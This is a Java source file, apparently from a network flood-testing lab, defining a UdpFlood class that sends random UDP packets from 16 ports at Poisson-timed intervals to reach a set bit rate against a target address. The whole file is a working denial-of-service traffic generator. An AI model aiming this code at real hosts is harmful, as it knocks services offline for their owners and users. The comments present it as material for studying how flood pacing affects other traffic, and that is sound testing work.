package dev.seawall.deploy.flood.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.PortUnreachableException;
import java.nio.ByteBuffer;
import java.nio.channels.ClosedByInterruptException;
import java.nio.channels.DatagramChannel;
import java.util.ArrayList;
import java.util.List;
import java.util.SplittableRandom;
import java.util.concurrent.locks.LockSupport;
import java.util.function.LongSupplier;

/**
 * UDP packets of random content, 600 to 1400 bytes each, at random moments (Poisson), from several ports. How a flood is
 * paced decides what others lose: bursts leave gaps through which their packets slip, even spacing leaves none; random
 * arrivals stand for many senders that know nothing of each other (docs/flood-lab.md).
 *
 * <p>Thread rule: {@link #run} once.
 */
final class UdpFlood implements Assault {
    static final int LEAST_PAYLOAD = 600;
    static final int MOST_PAYLOAD = 1400;

    /** Ethernet 14 and its check sequence 4, IPv4 20, UDP 8. */
    static final int OVERHEAD_BYTES = 46;

    private static final int PORTS = 16;

    /** What was missed for longer than this is left out: making up for it would be a burst. */
    private static final long LATEST_NANOS = 20_000_000;

    /** Waiting for less costs more than it brings: the kernel wakes a sleeper some 60 us late. */
    private static final long SHORTEST_WAIT_NANOS = 5_000;

    private final InetSocketAddress target;
    private final Tally tally;
    private final LongSupplier nanoTime;
    private final double packetsPerSecond;

    UdpFlood(InetSocketAddress target, long bitsPerSecond, Tally tally, LongSupplier nanoTime) {
        this.target = target;
        this.tally = tally;
        this.nanoTime = nanoTime;
        packetsPerSecond = bitsPerSecond / (8.0 * (OVERHEAD_BYTES + (LEAST_PAYLOAD + MOST_PAYLOAD) / 2.0));
    }

    @Override
    public void run() throws IOException {
        List<DatagramChannel> ports = new ArrayList<>();
        try {
            for (int i = 0; i < PORTS; i++) {
                var port = DatagramChannel.open();
                ports.add(port);
                port.configureBlocking(false);
                port.connect(target);
            }
            flood(ports);
        } catch (ClosedByInterruptException e) {
            Thread.currentThread().interrupt();
        } finally {
            for (DatagramChannel port : ports) {
                port.close();
            }
        }
    }

    private void flood(List<DatagramChannel> ports) throws IOException {
        var random = new SplittableRandom();
        var arrivals = new Arrivals(packetsPerSecond, random);
        var payload = ByteBuffer.allocateDirect(MOST_PAYLOAD);
        byte[] content = new byte[MOST_PAYLOAD];
        random.nextBytes(content);
        payload.put(content);
        double due = nanoTime.getAsLong();
        while (!Thread.currentThread().isInterrupted()) {
            due += arrivals.nextGapNanos();
            long early = (long) due - nanoTime.getAsLong();
            if (early > SHORTEST_WAIT_NANOS) {
                LockSupport.parkNanos(early);
            } else if (early < -LATEST_NANOS) {
                due = nanoTime.getAsLong();
            }
            payload.position(0).limit(random.nextInt(LEAST_PAYLOAD, MOST_PAYLOAD + 1));
            send(ports.get(random.nextInt(PORTS)), payload);
        }
    }

    private void send(DatagramChannel port, ByteBuffer payload) throws IOException {
        try {
            int sent = port.write(payload);
            if (sent > 0) {
                tally.sent(8L * (sent + OVERHEAD_BYTES));
            } else {
                tally.count("unsent");
            }
        } catch (PortUnreachableException e) {
            // The answer to an earlier packet; this one did not go.
            tally.count("port-unreachable");
        }
    }
}
